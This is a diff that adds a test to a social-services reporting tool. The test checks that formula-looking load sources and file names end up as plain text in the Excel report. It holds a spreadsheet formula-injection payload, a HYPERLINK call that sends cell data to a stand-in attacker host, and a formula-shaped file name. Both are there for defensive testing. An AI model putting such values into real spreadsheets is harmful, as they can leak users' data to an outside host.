@@ -109,3 +109,32 @@ def test_no_hidden_figure_is_stored_as_a_number(warehouse: Warehouse, tmp_path: 
         c.value for s in workbook for r in s.iter_rows() for c in r if isinstance(c.value, int | float)
     }
     assert 3 not in numbers  # the three Jeugdwet clients appear nowhere as a number
+
+
+def test_a_load_source_or_file_name_like_a_formula_is_stored_as_text(
+    warehouse: Warehouse, tmp_path: Path
+) -> None:
+    from sdmonitor.reports.run import make_report
+    from sdmonitor.reports.template import builtin_path, read_template
+
+    rows = [allocation(f"w{i}", client=f"W{i}", start="2018-01-10") for i in range(12)]
+    formula = '=HYPERLINK("http://aanvaller.example/?"&A1,"klik")'
+    load_allocations(
+        warehouse, write_csv(tmp_path / "=1+2@SUM(A1).csv", rows), LoadOptions(source=formula),
+        now=datetime(2018, 7, 1),
+    )  # fmt: skip
+    files = make_report(
+        warehouse,
+        read_template(builtin_path("kwartaal")),
+        "2018-Q1",
+        tmp_path / "out",
+        now=datetime(2026, 1, 1),
+    )
+    workbook = load_workbook(files.xlsx)
+    cells = [
+        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None
+    ]
+    assert cells and all(cell.data_type in ("s", "n") for cell in cells)  # no formula ('f') anywhere
+    texts = {cell.value for cell in cells}
+    assert formula in texts and "=1+2@SUM(A1).csv" in texts
+    assert not any(cell.hyperlink for cell in cells)
